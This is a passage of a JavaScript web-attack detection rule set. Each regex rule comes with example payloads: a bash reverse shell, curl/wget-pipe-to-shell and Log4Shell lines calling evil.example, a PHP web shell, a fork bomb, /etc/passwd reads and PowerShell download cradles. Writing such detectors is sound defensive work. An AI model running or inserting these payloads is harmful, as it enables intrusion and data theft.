  { id: 'ci.shell-path', name: 'Shell binary path', category: 'command-injection', weight: 0.8, kinds: H, keywords: ['/bin/', '/usr/bin/', 'cmd.exe', 'cmd /c', 'powershell', '/dev/tcp', 'bash -i', '-e /bin'],
    pattern: String.raw`/(?:usr/)?bin/(?:ba|z|k|c|tc|da)?sh\b|/(?:usr/)?bin/(?:cat|id|ls|nc|wget|curl|python|perl|echo|uname|whoami)\b|\bcmd(?:\.exe)?\s{0,3}/[ck]\b|\bpowershell(?:\.exe)?\s{1,5}-(?:e|enc|encodedcommand|nop|noprofile|w|windowstyle|c|command|exec|executionpolicy|ep)\b|/dev/(?:tcp|udp)/|\bbash\s{1,5}-i\b|\b(?:nc|ncat|netcat)\s{1,5}(?:-[a-z]{1,5}\s{1,5}){0,4}-[a-z]{0,4}e\b`, examples: ['/bin/sh -c id', 'cmd.exe /c dir', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'] },
  { id: 'ci.substitution', name: 'Command substitution', category: 'command-injection', weight: 0.7, kinds: H, keywords: ['$(', '`', '${ifs', '$ifs'],
    pattern: String.raw`\$\([a-z_]⟪100:)\n⟫\)|\x60[a-z_/]⟪100:\x60\n⟫\x60|\$\{ifs\}|\$ifs\b`, examples: ['$(id)', '`whoami`', 'cat${IFS}/etc/passwd'] },
  { id: 'ci.download-exec', name: 'Download and execute', category: 'command-injection', weight: 0.75, kinds: H, keywords: ['wget', 'curl', 'fetch', 'invoke-webrequest', 'iwr', 'downloadstring', 'downloadfile'],
    pattern: String.raw`\b(?:wget|curl|fetch|invoke-webrequest|iwr)\s{1,5}(?:-[a-z-]{1,20}\s{1,5}(?:[^\s]{1,40}\s{1,5})?){0,3}(?:https?|ftp)://|\bdownload(?:string|file)\s?\(`, examples: ['wget http://evil.example/x.sh', 'curl -s https://evil/p | sh'] },
  { id: 'ci.pipe-to-shell', name: 'Pipe to shell', category: 'command-injection', weight: 0.85, kinds: H, keywords: ['|'],
    pattern: String.raw`\|\s{0,5}(?:ba|z|k|da)?sh\b|\|\s{0,5}(?:python[23]?|perl|ruby|php|node)\b`, examples: ['curl x | sh'] },
  { id: 'ci.windows-cmd', name: 'Windows command idioms', category: 'command-injection', weight: 0.7, kinds: H, keywords: ['%comspec%', '%systemroot%', '%windir%', 'net user', 'net localgroup', 'ping -n', 'type c:', 'dir c:', 'for /f', 'if /i', 'cscript', 'wscript', 'reg query', 'reg add', 'reg delete', 'reg save', 'for ', 'if '],
    pattern: String.raw`%(?:comspec|systemroot|windir|temp|userprofile|programfiles)%|\bnet\s+(?:user|localgroup)\b|\bping\s+-n\s+\d|\b(?:type|dir)\s+[a-z]:[\\/]|\bfor\s+/f\b|\bif\s+/i\b|\b[cw]script(?:\.exe)?\s|\breg(?:\.exe)?\s+(?:query|add|delete|save)\b|\bfor\s+(?:/[a-z]\s+)?(?:[a-z]:\\[^\s]{0,60}\s+)?%%?[a-z_~]{1,3}\s+in\s?\(|\bif\s+(?:/i\s+)?(?:not\s+)?(?:exist|defined|errorlevel)\b`, examples: ['& net user hacker /add', 'type c:\\boot.ini', 'FOR %_ IN (a,b,c) DO cmd', 'IF NOT EXIST C:\\x CMD'] },
  // Code injection (template, expression, PHP, Java, Node, Log4Shell)
  { id: 'code.log4shell', name: 'JNDI lookup (Log4Shell)', category: 'code-injection', weight: 0.95, kinds: H, keywords: ['${', 'jndi'],
    pattern: String.raw`\$\{⟪60:}\n⟫j⟪20:a-z\n⟫n⟪20:a-z\n⟫d⟪20:a-z\n⟫i⟪10:a-z\n⟫:|\$\{\s?jndi\s?:|\$\{(?:lower|upper|env|sys|java|date|main|ctx|base64|::-)[:}]`, examples: ['${jndi:ldap://evil.example/a}', '${${lower:j}ndi:ldap://x}'] },
  { id: 'code.ssti', name: 'Server-side template injection', category: 'code-injection', weight: 0.85, kinds: H, keywords: ['{{', '${', '<%', '#{', '{%', '*{', '<#', '#set'],
    pattern: String.raw`\{\{\s?\d+\s?[*+\-/]\s?\d+\s?\}\}|\$\{\s?\d+\s?[*+\-/]\s?\d+\s?\}|<%=?\s?\d+\s?[*+]\s?\d+\s?%>|#\{\s?\d+\s?[*+]\s?\d+\s?\}|\{\{⟪100:}\n⟫(?:__class__|__mro__|__subclasses__|__globals__|__builtins__|__init__|__import__|config\.|self\.|request\.application|lipsum|cycler|joiner|namespace|\.popen|getruntime|\.exec)|\{%\s?(?:import|include|set|for|if|raw|debug|load)\b|\$\{⟪100:}\n⟫(?:runtime|getclass|classloader|exec|processbuilder|freemarker|new\s)|\*\{⟪60:}\n⟫\}|<#assign\b|#set\s?\(`, examples: ['{{7*7}}', "{{ ''.__class__.__mro__ }}", '${7*7}', '<#assign ex="freemarker.template.utility.Execute"?new()>'] },
  { id: 'code.php', name: 'PHP code injection', category: 'code-injection', weight: 0.85, kinds: H, keywords: ['<?', 'system', 'exec', 'passthru', 'zlib_decode', 'gzdecode', 'bzdecompress', 'curl_init', 'get_defined', 'posix_', 'php_uname', 'get_cfg_var', 'sockopen', 'stream_socket', 'curl_exec', 'move_uploaded', 'ini_set', 'putenv', 'dl(', 'dl (', 'escapeshell', 'symlink', 'popen', 'proc_open', 'eval', 'assert', 'preg_replace', 'create_function', 'include', 'require', 'base64_decode', 'file_get_contents', 'file_put_contents', 'fopen', 'phpinfo', 'call_user_func', '$_', 'o:', 'a:', 'str_rot13', 'gzinflate'],
    pattern: String.raw`<\?(?:php|=)?[\s(]|\b(?:shell_exec|passthru|popen|proc_open|pcntl_exec|preg_replace|create_function|include_once|require_once|base64_decode|str_rot13|gzinflate|gzuncompress|gzdecode|bzdecompress|zlib_decode|file_get_contents|file_put_contents|fopen|fwrite|phpinfo|call_user_func(?:_array)?|array_map|usort|highlight_file|show_source|readfile|unserialize|fsockopen|pfsockopen|stream_socket_client|curl_exec|curl_init|move_uploaded_file|ini_set|putenv|escapeshellcmd|symlink|get_defined_vars|get_defined_functions|posix_[a-z]{3,20}|php_uname|assert_options|get_cfg_var)\s{0,5}\(|\b(?:system|exec|eval|assert|include|require|dl)(?:\(|\s{1,5}\(\s?['"$])|\$_(?:get|post|request|cookie|server|files|env|session|globals)\b|\b[oc]:\d{1,4}:"[a-z_\\]{1,100}":\d{1,4}:\{`, examples: ['<?php system($_GET["c"]); ?>', 'O:8:"stdClass":1:{s:1:"a";}'] },
  { id: 'code.java', name: 'Java class or gadget', category: 'code-injection', weight: 0.8, kinds: H, keywords: ['java', 'runtime', 'processbuilder', 'classloader', 'ognl', 'memberaccess', 'invokertransformer', 'ro0ab', 'aced0005', 'beanutils', 'bsh.', 'groovy', 'whileclosure', 'xstream', 'transformer', 'getclass', 'forname', 'org.', 'com.sun', 'javax', 'bsh', 't(java'],
    pattern: String.raw`\bjava\.(?:lang\.(?:runtime|processbuilder|system|class|reflect|thread|classloader)|io\.(?:file|objectinputstream|objectoutputstream|bytearrayoutputstream|bytearrayinputstream|pushbackinputstream|fileoutputstream|fileinputstream|printwriter|bufferedreader)|net\.(?:url|socket)|beans\.|util\.(?:scanner|priorityqueue))|\bgetruntime\s?\(|\bprocessbuilder\b|\bclassloader\b|\bognl\b|#_memberaccess|\binvokertransformer\b|\bchainedtransformer\b|\bconstanttransformer\b|\binstantiatetransformer\b|\bwhileclosure\b|\bbeanutils\b|\bbsh\.(?:interpreter|xthis)|\bgroovy\.(?:lang|util)|\bclass\.forname\b|\.getclass\s?\(|\bt\(java\.|\bro0ab|\baced0005\b|javax\.(?:script|naming|management)|\bcom\.sun\.(?:rowset|jndi|org)|org\.apache\.(?:commons\.collections|xalan|tomcat|struts|catalina|ibatis)|org\.springframework\.|\bxstream\b`, examples: ['java.lang.Runtime.getRuntime().exec("id")', '%{#_memberaccess["allowStaticMethodAccess"]=true}'] },
  { id: 'code.node', name: 'Node.js code or prototype pollution', category: 'code-injection', weight: 0.85, kinds: H, keywords: ['child_process', 'process', '__proto__', 'constructor', 'prototype', 'require', 'global.', 'module.'],
    pattern: String.raw`\brequire\s?\(\s?['"\x60]child_process|\bchild_process\b|\bprocess\.(?:env|mainmodule|binding|kill|exit)\b|__proto__|\bconstructor['"]?\]?\s?(?:\.|\[\s?['"]?)\s?prototype\b|['"]\$[0-9a-f]{1,4}:[a-z_$][a-z0-9_$]{0,30}:(?:constructor|prototype|__proto__)\b|\bconstructor\s?\.\s?constructor\b|\b(?:process|require)\s?\[\s?['"a-z]|\bmodule\.exports\s?=|\bconstructor\[\s?['"]constructor|\bglobal\.process\b|\bmodule\.constructor\b`, examples: ['{"__proto__": {"admin": true}}', "require('child_process').exec('id')", 'a[constructor][prototype][onerror]=a', '{"0":"$7:Module:prototype"}'] },
  { id: 'code.node-serialize', name: 'node-serialize function marker', category: 'code-injection', weight: 0.9, kinds: H, keywords: ['nd_func'],
    pattern: String.raw`_\$\$nd_func\$\$_`, examples: ['{"rce":"_$$ND_FUNC$$_function(){}()"}'] },
  { id: 'code.js-bracket-call', name: 'JavaScript bracket-notation call', category: 'code-injection', weight: 0.7, kinds: H, keywords: ['console', 'document', 'window', 'this', 'self', 'top', 'parent', 'globalthis', 'process'],
    pattern: String.raw`\b(?:console|document|window|this|self|top|parent|globalthis|process)\s{0,5}\)?\s{0,5}\[\s{0,5}["'\x60][a-z]{2,20}["'\x60]\s{0,5}\]`, examples: ['console["info"](1)', '(document)["cookie"]'] },
  { id: 'code.interpreter-flag', name: 'Interpreter one-liner', category: 'command-injection', weight: 0.75, kinds: H, keywords: ['perl', 'python', 'ruby', 'php', 'node', 'lua'],
    pattern: String.raw`\b(?:perl|python[23]?|ruby|php|node|lua)\s{1,5}-[ecr]\s{1,5}(?:['"]|[a-z_]{2,20}\s?\()`, examples: ["perl -e 'print 1'"] },
  { id: 'fi.upload-script', name: 'Script file name in an upload', category: 'file-inclusion', weight: 0.7, kinds: H, keywords: ['file', 'name'],
    pattern: String.raw`(?:^|[\s;"'])(?:x[-._]?)?file[-_.]?name\*?\s?[:=]\s?["']?⟪120:"'\n\u2029⟫\.\s?(?:php\d?|pht|phpt|phps|phtml|phar|jspx?|aspx?|cer|asa|cgi|sh|war|exe|shtml)(?:\.{1,3}|["';\s]|$)`, examples: ['x-filename: a.php..', 'Content-Disposition: form-data; name="f"; filename="shell.phtml"'] },
  { id: 'pt.agent-config', name: 'AI agent or editor configuration file', category: 'path-traversal', weight: 0.6, kinds: H, keywords: ['.roo', '.junie', '.cursor', '.claude', '.windsurf', '.continue', '.aider', '.codex', '.vscode', '.idea', 'copilot'],
    pattern: String.raw`[\\/]\.(?:roo|junie|cursor|claude|windsurf|continue|aider|codex|vscode|idea)[\\/]|[\\/]\.github[\\/]copilot`, examples: ['/.roo/mcp.json', '/.cursor/rules'] },
  { id: 'pt.backup-file', name: 'Database dump or backup file', category: 'path-traversal', weight: 0.6, kinds: H, keywords: ['.sql', '.bak', '.old', '.backup', '.swp', '.orig', '.dump'],
    pattern: String.raw`\.(?:sql|bak|old|backup|swp|orig|dump)(?:\.(?:zip|gz|bz2|tar|tgz|7z|rar))?(?:$|[?#&\s])`, examples: ['/get/backup.sql.zip', '/index.php.bak'] },
  { id: 'code.python', name: 'Python code injection', category: 'code-injection', weight: 0.8, kinds: H, keywords: ['__import__', 'os.system', 'os.popen', 'subprocess', 'pickle', 'exec(', 'compile(', 'getattr', '__builtins__', 'globals()'],
    pattern: String.raw`\b__import__\s?\(|\bos\.(?:system|popen|exec[lv]p?e?)\s?\(|\bsubprocess\.(?:call|run|popen|check_output)|\bpickle\.loads\b|\b(?:exec|compile)\s?\(\s?['"]|\bgetattr\s?\(⟪60:)\n⟫__|__builtins__|\bglobals\s?\(\s?\)`, examples: ['__import__("os").system("id")'] },
  { id: 'code.ssi', name: 'Server-side include', category: 'code-injection', weight: 0.85, kinds: H, keywords: ['<!--#'],
    pattern: String.raw`<!--\s?#\s?(?:exec|include|echo|config|set|printenv|fsize|flastmod|if)\b`, examples: ['<!--#exec cmd="ls" -->'] },
  { id: 'code.el-expression', name: 'Expression-language injection', category: 'code-injection', weight: 0.6, kinds: H, keywords: ['${', '#{', '%{', '@{'],
    pattern: String.raw`[$#%@]\{(?!\s?")⟪100:}\n⟫(?:\(|\.|\[|:)⟪100:}\n⟫\}`, examples: ['%{(#cmd="id")}', '@{[keys %ENV]}'] },
  // Added techniques: encoded/obfuscated traversal, shell evasion, PowerShell, Java class names, JS tricks
  { id: 'pt.overlong-separator', name: 'Dot-dot before an overlong or malformed separator', category: 'path-traversal', weight: 0.7, kinds: H, keywords: ['..%', '.%', '0x2e%'],
    pattern: String.raw`(?:\.|%2e|0x2e)(?:\.|%2e|0x2e)%(?:c[01]|f[8c]|[0-9a-f]?%|[g-z][0-9a-z]|[0-9a-f][g-z])`, examples: ['..%c1%9cwindows', '..%f8%80%80%80%afetc', '..%bg%qfboot.ini'] },
  { id: 'pt.traversal-to-file', name: 'Traversal sequence reaching a system file', category: 'path-traversal', weight: 0.6, kinds: H, keywords: ['passwd', 'shadow', 'issue', 'hosts', 'win.ini', 'boot.ini', 'system32', 'desktop.ini', 'environ'],
    pattern: String.raw`(?:\.\.|%2e%2e|%c0%ae)⟪120:\s⟫(?:etc.{1,12}(?:passwd|shadow|issue|hosts|group)|win\.ini|boot\.ini|system32|desktop\.ini|proc.{1,12}environ)`, examples: ['..?%bg%qfetc%bg%qfpasswd', '..%%32%%66winnt%%32%%66win.ini'] },
  { id: 'ci.glob-path', name: 'Shell glob spelling of a system path', category: 'command-injection', weight: 0.65, kinds: H, keywords: ['?', '*', '['],
    pattern: String.raw`(?:^|[\s=;|&'"\x60(])/[a-z?]{0,3}\?[a-z?]{0,3}/[a-z?*]{0,10}(?:\?|\*)|(?:^|[\s=;|&'"\x60(])/(?:bin|etc|usr|tmp|dev|proc|var|\?{3})/[a-z?*]{0,10}(?:\?|\[[!^]?[a-z/-]{1,10}\])`, examples: ['/???/b??h', '/etc/pa?swd', 'cat /etc/pa[!q]swd'] },
  { id: 'ci.glob-read', name: 'File-reading command on a globbed system path', category: 'command-injection', weight: 0.65, kinds: H, keywords: ['*', '?'],
    pattern: String.raw`\b(?:cat|head|tail|more|less|nl|tac|strings|od|xxd|base64|ls|file|stat)\s{1,5}/[a-z]{0,4}[*?][a-z]{0,4}/[a-z*?]{0,12}[*?]`, examples: ['cat /et*/*wd', 'tail /e?c/*ss*'] },
  { id: 'ci.shellshock', name: 'Shellshock function definition', category: 'command-injection', weight: 0.9, kinds: H, keywords: ['()'],
    pattern: String.raw`\(\)\s{0,5}\{\s{0,5}(?::|_|[a-z]{1,10})?\s{0,5};?\s{0,5}\}\s{0,5};|\(\)\s{0,5}\{\s{0,5}:\s{0,5};\s{0,5}\}|(?:^|=)\s{0,3}\(\)\s{0,5}\{\s{0,5}$|^[^\u2029]{0,40}:\s?\(\)\s{0,5}\{\s{0,5}$`, examples: ['() { :;}; echo vulnerable', 'test: () {'] },
  { id: 'ci.fork-bomb', name: 'Shell fork bomb', category: 'command-injection', weight: 0.85, kinds: H, keywords: [':|:', ':()'],
    pattern: String.raw`:\s?\(\)\s?\{\s?:\s?\|\s?:\s?&\s?\}|\{\s?:\s?\|\s?:\s?&\s?\}`, examples: [':(){ :|:& };:'] },
  { id: 'ci.process-substitution', name: 'Process substitution or arithmetic expansion', category: 'command-injection', weight: 0.6, kinds: H, keywords: ['<(', '>(', '$[', '$(('],
    pattern: String.raw`(?:^|[\s=;|&])[<>]\([a-z$]⟪60:)\n⟫\)|\$\[\s?\d+\s?[-+*/%]\s?\d+\s?\]|\$\(\(⟪60:)\n⟫\)\)`, examples: ['<(cmd)', '$[2+2]', '$(($(cat /etc/passwd)))'] },
  { id: 'ci.powershell', name: 'PowerShell cmdlet or download cradle', category: 'command-injection', weight: 0.75, kinds: H, keywords: ['invoke-', 'iex', 'iwr', 'iwmi', 'new-object', 'start-process', 'net.webclient', 'win32_process', 'downloadstring', '-argumentlist', 'get-wmiobject', 'set-mppreference', 'add-mppreference', 'frombase64string'],
    pattern: String.raw`\binvoke-(?:expression|webrequest|restmethod|command|wmimethod|item|shellcode|mimikatz)\b|(?:^|[\s;|&(])(?:iex|iwr|iwmi)\s?[\s(]|\bnew-object\s+(?:-typename\s+)?(?:system\.)?net\.(?:webclient|sockets)|\bstart-process\b|\bwin32_process\b|\bget-wmiobject\b|\b(?:set|add)-mppreference\b|\[(?:system\.)?convert\]::frombase64string`, examples: ['iex (iwr http://x/a.ps1)', 'Invoke-Expression -Command x', 'New-Object Net.WebClient'] },
  { id: 'ci.bare-recon', name: 'Reconnaissance command as a whole value', category: 'command-injection', weight: 0.6, kinds: H, keywords: ['whoami', 'uname', 'ipconfig', 'ifconfig', 'systeminfo', 'sysinfo', 'netstat', 'net view', 'net user', 'netsh', 'which', 'ls -', 'id', 'dir', 'cat /', 'type ', 'pwd', 'ver', 'ps', 'route', 'hostname', 'who', 'env', 'set', 'lastlog', 'top', 'history', 'ping', 'curl', 'wget', 'sleep'],
    pattern: String.raw`(?:${VALUE_START}|[;|&\x60])\s{0,3}(?:['"]\s{0,2})?(?:whoami|uname(?:\s+-[a-z]{1,4})?|ipconfig(?:\s+/all)?|ifconfig|systeminfo|sysinfo|netstat(?:\s+-[a-z]{1,5})?|net\s+(?:view|user|localgroup|share)|netsh\s+[a-z]{3,12}|which\s+(?:curl|wget|gcc|nc|netcat|perl|python[23]?|ruby|php|bash|sh|socat)|ls\s+-[a-z]{1,4}(?:\s+/[^\s\u2029]{0,60})?|cat\s+/[a-z]{2,10}/[^\s\u2029]{1,60}|dir\s+[a-z]:[\\/]?|type\s+[a-z]:\\[^\s\u2029]{1,60}|ping\s{1,5}(?:-[a-z]{1,2}\s{1,5}\d{1,5}\s{1,5})?[a-z0-9.:-]{3,64}|(?:curl|wget)\s{1,5}(?:-[a-z]{1,2}\s{1,5})?[a-z0-9.:/-]{3,100}|sleep\s{1,5}\d{1,3})\s{0,3}(?:$|[;|&\x60#])|[;|&\x60\n]\s{0,3}(?:id|uname|sysinfo|netstat|pwd|ver|dir|ps|route|hostname|who|env|set|lastlog|top|htop|history)\s{0,3}(?:$|[;|&\x60#"<])|\bnetsh\s{1,5}(?:firewall|advfirewall|interface|wlan|winsock|http)\s{1,5}(?:set|add|show|delete|reset|dump)\b`, examples: ['whoami', 'uname -a', '| net view', 'ls -l /etc/', ';id', '| dir', 'netsh firewall set opmode disable'] },
  { id: 'ci.terminated-recon', name: 'Reconnaissance command closed off by separators (breaking out of a value or call)', category: 'command-injection', weight: 0.85, kinds: H, keywords: ['id', 'env', 'whoami', 'uname', 'pwd', 'hostname', 'set', 'ps'],
    pattern: String.raw`[;|&\x60]\s{0,3}(?:id|env|whoami|uname|pwd|hostname|set|ps)\s{0,3}[;|&\x60]|[)'"]\s{0,3}[;|&]\s{0,3}(?:id|env|whoami|uname|pwd|hostname|ps)\s{0,3}(?:$|[;|&\x60#])`, examples: [';env;', 'a);env;', "x'|id|", '|whoami&'] },
  { id: 'ci.interpreter-command', name: 'Command wrapper running a shell', category: 'command-injection', weight: 0.75, kinds: H, keywords: ['sh -c', 'bash -c', '-exec', 'wrapper', '!sh', '!bash', '!pwd', '!id', '!whoami', ':!', '!/bin'],
    pattern: String.raw`\b(?:time|nohup|timeout|env|xargs|nice|strace|ltrace|setsid|stdbuf|busybox)\s{1,5}(?:-[a-z]{1,10}\s{1,5}(?:\d{1,5}\s{1,5})?)?(?:ba|z|k|da)?sh\s{1,5}-c\b|\bfind\s[^\u2029]{0,60}-exec\s{1,5}(?:/bin/)?(?:ba)?sh\b|-wrapper\s{1,3}(?:ba)?sh,-c|[:\s\\-]!\s?(?:(?:sh|bash|pwd|id|whoami)\b|/bin/)`, examples: ['time sh -c whoami', 'find . -exec /bin/sh \\;', 'vi -c:\\!pwd'] },
  { id: 'code.java-class-name', name: 'Dangerous Java class named in a parameter', category: 'code-injection', weight: 0.7, kinds: H, keywords: ['java.', 'javax.', 'runtime', 'processbuilder', 'scriptengine', 'urlclassloader', 'objectinputstream'],
    pattern: String.raw`\bjava\.(?:[a-z]{1,12}\.){0,3}(?:runtime|processbuilder|processimpl|unixprocess|scriptenginemanager|urlclassloader|objectinputstream|invoke\.methodhandles)\b|\b(?:javax\.script\.)?scriptenginemanager\b|\burlclassloader\b|\b(?:getenginebyname|getenginebyextension)\s?\(`, examples: ['java.Runtime', 'test=java.lang.ProcessBuilder', 'new javax.script.ScriptEngineManager()'] },
  { id: 'code.spel-ognl', name: 'SpEL/OGNL/EL expression reaching Java', category: 'code-injection', weight: 0.8, kinds: H, keywords: ['t(', '@java', '@org', 'new ', '#context', '#request', '#response', '#application', '#_', '.forname', 'getclass', 'class.module', 'class.classloader'],
    pattern: String.raw`\bt\s?\(\s?(?:java|javax|org|com)\.[a-z]|@(?:java|org|com)\.[a-z.]{1,60}@[a-z]|#(?:context|request|response|application|session|parameters|attr|_memberaccess)\b\s?[\[.]|\bnew\s+(?:java\.[a-z.]{1,40}|processbuilder|scriptenginemanager)\b|\bclass\.(?:module\.)?classloader\b`, examples: ["T(java.lang.Runtime).getRuntime().exec('id')", '@java.lang.Runtime@getRuntime()', 'class.module.classLoader.resources'] },
  { id: 'xss.js-protocol-spaced', name: 'javascript: URL split by whitespace', category: 'xss', weight: 0.8, kinds: H, keywords: ['j', 'v'],
    pattern: String.raw`\bj\s{0,4}a\s{0,4}v\s{0,4}a\s{0,4}s\s{0,4}c\s{0,4}r\s{0,4}i\s{0,4}p\s{0,4}t\s{0,4}:|\bv\s{0,4}b\s{0,4}s\s{0,4}c\s{0,4}r\s{0,4}i\s{0,4}p\s{0,4}t\s{0,4}:`, examples: ['ja\tvascript:alert(1)', 'java\nscript:x'] },
  { id: 'xss.js-obfuscation', name: 'Obfuscated JavaScript execution', category: 'xss', weight: 0.75, kinds: H, keywords: ['![]', '+[]', 'alert', 'prompt', 'confirm', 'function', '.call', '.apply', 'document', 'import(', '!!'],
    pattern: String.raw`\(\s?!\s?\[\s?\]\s?\+?\s?\[\s?\]\s?\)|\+\s?!!\s?\[\s?\]|\[\s?\+\s?!\s?\+\s?\[\s?\]\s?\]|\.[a-z]{2,12}\(\s?(?:alert|eval|confirm)\s?[),]|\$\{\s?(?:alert|eval)\s?\}|\bnew\s+function\s?(?:\(|\x60)|\.(?:call|apply|bind)\s?\x60|\[\s?\]\.(?:sort|map|find|filter|every|some|reduce|constructor)\b|\bdocument\s{0,3}\.\s{0,3}(?:cookie|domain|write)\b|\bimport\s?\(\s?['"\x60]?(?:https?:|data:|/)`, examples: ['(![]+[])[+!+[]]', '[1].find(alert)', 'new Function()', '[].sort.call`${alert}1337`'] },
  { id: 'xss.template-injection', name: 'Client-side template expression', category: 'xss', weight: 0.7, kinds: H, keywords: ['{{'],
    pattern: String.raw`\{\{⟪100:}\n⟫(?:constructor|\$eval|alert\s?\(|prompt\s?\(|confirm\s?\(|charat\s?\(|__proto__)`, examples: ["{{constructor.constructor('alert(1)')()}}", '{{$on.constructor("alert(1)")()}}'] },
  { id: 'code.java-gadget', name: 'Java deserialization gadget class', category: 'code-injection', weight: 0.75, kinds: H, keywords: ['closure', 'factory', 'transformer', 'templatesimpl', 'invocationhandler', 'rowsetimpl', 'lazymap', 'transformedmap', 'badattributevalue'],
    pattern: String.raw`\b(?:forclosure|whileclosure|instantiatefactory|instantiatetransformer|invokertransformer|clonetransformer|chainedtransformer|constanttransformer|prototypeclonefactory|prototypeserializationfactory|templatesimpl|annotationinvocationhandler|badattributevalueexpexception|jdbcrowsetimpl|lazymap|transformedmap)\b`, examples: ['runtime.forclosure', 'org.apache.commons.collections.functors.InvokerTransformer'] },
  { id: 'code.java-package', name: 'Fully qualified Java platform class in a parameter', category: 'code-injection', weight: 0.6, kinds: H, keywords: ['java.', 'javax.', 'org.omg', 'org.apache.commons', 'com.sun.', 'com.opensymphony.xwork2'],
    pattern: String.raw`\bjava\.(?:io|lang|net|nio|rmi|beans|security)\.[a-z]{2,40}\b|\bjavax\.[a-z]{3,20}\.[a-z]{2,40}\b|\borg\.omg\.[a-z]{3,20}\b|\borg\.apache\.commons\b|\bcom\.sun\.[a-z]{2,20}\.[a-z]{2,40}\b|\bcom\.opensymphony\.xwork2\b`, examples: ['java.io.BufferedInputStream=test', '{"org.omg.CORBA": "x"}'] },
  { id: 'xss.charset-tricks', name: 'Markup hidden by charset tricks (UTF-7, 7-bit stripping)', category: 'xss', weight: 0.75, kinds: H, keywords: ['+adw-', '+ad4-', '+aci-', '1/4', '\u00bc'],
    pattern: String.raw`\+ad[w4]-|\+aci-|(?:1/4|\u00bc)\s?/?(?:script|img|svg|iframe)(?![a-z])`, examples: ['+ADw-script+AD4-alert(1)+ADw-/script+AD4-', '\u00bcscript\u00bealert(1)\u00bc/script\u00be'] },
  { id: 'xss.js-comment-split', name: 'JavaScript object split by comments', category: 'xss', weight: 0.6, kinds: H, keywords: ['/*', '(alert)', '(prompt)', '(confirm)', '(eval)'],
    pattern: String.raw`\b(?:document|window|location|top|self|parent|this)\s{0,5}/\*[^*\u2029]{0,40}\*/|\((?:alert|prompt|confirm|eval)\)\s?(?:\(|\x60)`, examples: ['document/*foo*/./*bar*/cookie', '(alert)(1)'] },
  // Second round (HTTP-only, written from the techniques): Java names inside base64 fragments,
  // Windows batch control flow, shell functions, brace expansion, here-strings, quoted and
  // wrapped command words, SQLite CLI and mail-protocol commands smuggled after a line break,
  // JavaScript sink aliasing, DOM sources and sinks, namespaced script elements.
  { id: 'code.java-base64-gadget', name: 'Java gadget or process class name inside base64', category: 'code-injection', weight: 0.8, kinds: H, keywords: JAVA_GADGET_BASE64,
    pattern: alternation(JAVA_GADGET_BASE64), examples: [Buffer.from('\u0000\u0001org.apache.commons.collections.functors.InvokerTransformer').toString('base64'), Buffer.from('sr\u0000\u0018java.lang.ProcessBuilder').toString('base64').slice(6)] },
  { id: 'code.java-serialized-shifted', name: 'Java serialization header inside base64 at a shifted alignment', category: 'code-injection', weight: 0.6, kinds: H, keywords: ['ztaa', 's7qaf'],
    // AC ED 00 05 after one or two unknown bytes: the edge characters mix in the neighbours' bits.
    pattern: String.raw`[kaq6]ztaa[u-x]|[acegikmoqsuwy26+]s7qaf`, examples: [Buffer.from('\u0001\u00ac\u00ed\u0000\u0005\u0073', 'latin1').toString('base64'), Buffer.from('\u0001\u0002\u00ac\u00ed\u0000\u0005\u0073', 'latin1').toString('base64')] },
  { id: 'code.java-base64-runtime', name: 'Java Runtime named inside base64', category: 'code-injection', weight: 0.45, kinds: H, keywords: JAVA_RUNTIME_BASE64,
    pattern: alternation(JAVA_RUNTIME_BASE64), examples: [Buffer.from('x.getRuntime()').toString('base64')] },
  { id: 'ci.windows-batch-flow', name: 'Windows batch FOR/IF statement', category: 'command-injection', weight: 0.7, kinds: H, keywords: ['for', 'if'],
    pattern: String.raw`\bfor\s{1,20}(?:/[a-z]\s{1,20}){0,4}(?:[a-z]:\\[^\s\u2029]{0,60}\s{1,20})?%%?[^\s\u2029()]{1,24}\s{1,20}in\s{0,5}\(⟪200:\u2029⟫\)\s{0,5}do\b|\bif\s{1,20}(?:/i\s{1,20})?(?:not\s{1,20})?(?:cmdextversion|errorlevel|exist|defined)\s{1,20}[^\s\u2029]{1,60}\s{1,20}(?:goto|echo|exit|set|call|cd|start|del|\(|@)|\bif\s{1,20}(?:/i\s{1,20})?(?:not\s{1,20})?[^\s\u2029]{1,60}\s{1,20}(?:equ|neq|lss|leq|gtr|geq)\s{1,20}[^\s\u2029]{1,60}\s{1,20}(?:goto|echo|exit|set|call|cd|start|del|\(|@)|\bif(?:\s{1,20}|/i\s{1,20})(?:not\s{1,20})?["'(\[{%a-z0-9][^\s\u2029=]{0,60}\s{0,10}==\s{0,10}[^\s\u2029]{0,60}\s{1,20}[a-z(@]`,
    examples: ['for %%f in (*.txt) do type %%f', 'FOR /D /r %G in ("User*") DO Echo %G', 'IF %ERRORLEVEL% NEQ 0 goto fail', 'if "%1"=="" goto usage', 'if not exist c:\\x (echo missing)'] },
  { id: 'ci.shell-function-bomb', name: 'Shell function that calls itself in the background', category: 'command-injection', weight: 0.8, kinds: H, keywords: ['()'],
    pattern: String.raw`(?:^|[\s;=&|])[a-z_.][a-z0-9_.]{0,20}\s?\(\)\s{0,5}\{⟪60:}\u2029⟫[|&]⟪60:}\u2029⟫\}\s{0,5};?\s{0,5}[a-z_.]`, examples: ['bomb(){ bomb|bomb& };bomb', 'x() { x & x; }; x'] },
  { id: 'ci.brace-expansion', name: 'Shell brace expansion building a command', category: 'command-injection', weight: 0.65, kinds: H, keywords: ['{,', ',}', '{'],
    pattern: String.raw`\{,[^{}\s\u2029]{1,80}\}|\{(?:cat|ls|echo|whoami|uname|ifconfig|curl|wget|nc|ncat|bash|sh|ping|python[23]?|perl|/bin/[a-z]{1,10}|/\?[a-z?/]{1,20}),(?:\}|-|/|\$|~|\.{1,2}/|#)[^{}\s\u2029]{0,80}\}|\{[a-z/?]{1,20},\}|\{[a-z]{1,4},-[a-z]{1,6}\}[a-z]`, examples: ['{,ifconfig}', '{cat,/etc/passwd}', '{l,-lh}s', '{,echo,#x}'] },
  { id: 'ci.here-string', name: 'Here-string fed to a command', category: 'command-injection', weight: 0.7, kinds: H, keywords: ['<<<'],
    pattern: String.raw`(?:^|[\s;|&=(])[a-z][a-z0-9._-]{0,20}\s?<<<\s?\S`, examples: [';bash<<<id', 'python3 <<< "import os"'] },
  { id: 'ci.wrapped-recon', name: 'Command wrapper running a recon or network command', category: 'command-injection', weight: 0.7, kinds: H, keywords: ['time', 'nohup', 'strace', 'ltrace', 'timeout', 'nice', 'xargs', 'stdbuf', 'setsid', 'sudo', 'watch', 'chroot', 'flock', 'cpulimit'],
